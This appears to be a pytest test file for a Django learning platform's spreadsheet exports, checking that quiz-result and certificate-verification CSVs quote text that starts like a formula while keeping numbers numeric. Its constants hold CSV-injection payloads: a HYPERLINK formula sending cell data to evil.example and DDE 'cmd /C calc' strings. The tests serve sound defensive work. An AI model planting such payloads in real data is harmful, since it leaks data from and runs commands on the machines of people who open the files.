"""
Every spreadsheet HọcSố writes opens with typed text as text: a learner's
name, a unit's name, a course title or a typed code that looks like a formula
reaches Excel with a single quote in front, and numbers stay numbers.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from certificates import codes
from certificates.models import Certificate
from courses.models import CoursePage
from lms import spreadsheets
from lms.accounts.models import OrgUnit, User
from lms.enrollment import services as enrollment_services
from lms.quizzes import results, services
from lms.quizzes.models import Question

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
HOSTILE_TITLE = "+cmd|' /C calc'!A0"
HOSTILE_UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_rows(text):
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def no_live_formula(rows):
    """No cell of the sheet starts the way a spreadsheet formula does."""
    return all(not value.startswith(spreadsheets.FORMULA_STARTS) for row in rows for value in row)


# The helper ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HOSTILE_NAME, "'" + HOSTILE_NAME),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-2+3", "'-2+3"),
        ("-0.5", "'-0.5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Nguyễn Thị Hoa", "Nguyễn Thị Hoa"),
        ("Lê Văn-An", "Lê Văn-An"),
        ("", ""),
    ],
)
def test_text_that_starts_like_a_formula_is_quoted(typed, written):
    assert spreadsheets.cell(typed) == written


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (Decimal("-0.5"), "-0.5"),
        (Decimal("-0.50"), "-0.5"),
        (Decimal("100.00"), "100"),
        (Decimal("0.33"), "0.33"),
        (-1, -1),
        (-0.25, -0.25),
        (None, ""),
    ],
)
def test_numbers_stay_numbers_even_when_negative(number, written):
    assert spreadsheets.cell(number) == written


def test_a_negative_fraction_reads_back_as_a_number_in_the_csv():
    rows = csv_rows(spreadsheets.csv_text([["Điểm"], [Decimal("-0.5")], [-0.25], ["-0.5"]]))
    assert [row[0] for row in rows[1:]] == ["-0.5", "-0.25", "'-0.5"]


@given(st.text())
def test_no_text_reaches_a_sheet_as_a_formula_and_none_is_lost(text):
    written = spreadsheets.cell(text)
    assert not written.startswith(spreadsheets.FORMULA_STARTS)
    assert written == text or written == "'" + text


# The quiz results CSV (trainers) --------------------------------------------------------------------


@pytest.fixture
def hostile_attempt(make_user, make_quiz, make_question):
    unit = OrgUnit.add_root(code="XA", name=HOSTILE_UNIT, kind=OrgUnit.Kind.COMMUNE)
    learner = make_user(email="=1+1@example.vn", full_name=HOSTILE_NAME, org_unit=unit)
    question = make_question(name=HOSTILE_TITLE, answers=[("Đúng", 1), ("Sai", 0)], shuffle_answers=False)
    quiz = make_quiz([question], slug="kiem-tra-cong-thuc")
    enrollment_services.enroll(learner, CoursePage.of(quiz))
    attempt = services.start_attempt(learner, quiz)
    response = attempt.responses.get()
    services.save_answers(attempt.pk, learner, {response.pk: str(question.answers.get(text="Sai").pk)})
    services.submit_attempt(attempt.pk, learner)
    return quiz


def test_the_results_csv_writes_a_hostile_name_unit_and_e_mail_as_text(hostile_attempt):
    rows = csv_rows(results.results_csv(hostile_attempt))

    learner_row = rows[1]
    assert learner_row[:3] == ["'" + HOSTILE_NAME, "'=1+1@example.vn", "'" + HOSTILE_UNIT]
    assert learner_row[-4:] == ["0", "1", "0", "0"]
    assert no_live_formula(rows)


def test_the_results_csv_download_is_neutralised_too(client, hostile_attempt):
    client.force_login(User.objects.create_superuser(email="admin@example.vn", password="x", full_name="Quản trị"))

    download = client.get(f"/admin/quizzes/{hostile_attempt.pk}/attempts.csv")

    assert download.status_code == 200
    rows = csv_rows(download.content.decode("utf-8"))
    assert rows[1][0] == "'" + HOSTILE_NAME
    assert no_live_formula(rows)


def test_the_results_csv_keeps_marks_as_numbers(make_user, make_quiz, make_question):
    question = make_question(Question.Type.ESSAY, name="Tự luận")
    quiz = make_quiz([question], slug="tu-luan-diem")
    learner = make_user(full_name="Trần Văn An")
    enrollment_services.enroll(learner, CoursePage.of(quiz))
    attempt = services.start_attempt(learner, quiz)
    response = attempt.responses.get()
    services.save_answers(attempt.pk, learner, {response.pk: "Không bấm vào đường link lạ."})
    services.submit_attempt(attempt.pk, learner)
    services.grade_by_hand(response.__class__.objects.get(pk=response.pk), Decimal("0.25"), "", learner)

    rows = csv_rows(results.results_csv(quiz))

    assert rows[1][-4:] == ["0.25", "1", "25", "0.25"]


# HR's bulk verification ------------------------------------------------------------------------------


@pytest.fixture
def hostile_certificate(learner, course):
    enrollment = enrollment_services.enroll(learner, course)
    return Certificate.objects.create(
        enrollment=enrollment, code=codes.new_code(), full_name=HOSTILE_NAME, course_title=HOSTILE_TITLE,
        hours=2, issued_on="2026-11-20", organisation="HọcSố",
    )


def bulk_upload(certificate):
    content = f"Mã\n{certificate.display_code}\n=1+1\n-{certificate.display_code}\n"
    return SimpleUploadedFile("ma.csv", content.encode("utf-8"), content_type="text/csv")


def test_the_bulk_verification_csv_writes_names_titles_and_typed_codes_as_text(client, hostile_certificate):
    response = client.post("/certificates/verify/bulk/", {"file": bulk_upload(hostile_certificate)})

    assert response.status_code == 200
    rows = csv_rows(response.content.decode("utf-8"))
    assert rows[1][1] == "Hợp lệ" and rows[1][3:5] == ["'" + HOSTILE_NAME, "'" + HOSTILE_TITLE]
    assert rows[2][:2] == ["'=1+1", "Mã viết sai"] and rows[2][3] == ""
    assert rows[3][0] == f"'-{hostile_certificate.display_code}"
    assert no_live_formula(rows)


def test_the_bulk_verification_command_prints_names_as_text(tmp_path, hostile_certificate, capsys):
    path = tmp_path / "ma.csv"
    path.write_bytes(bulk_upload(hostile_certificate).read())

    call_command("verify_certificates", str(path))

    lines = capsys.readouterr().out.splitlines()
    assert lines[0] == f"{hostile_certificate.display_code}, valid, '{HOSTILE_NAME}, '{HOSTILE_TITLE}"
    assert lines[1] == "'=1+1, invalid"
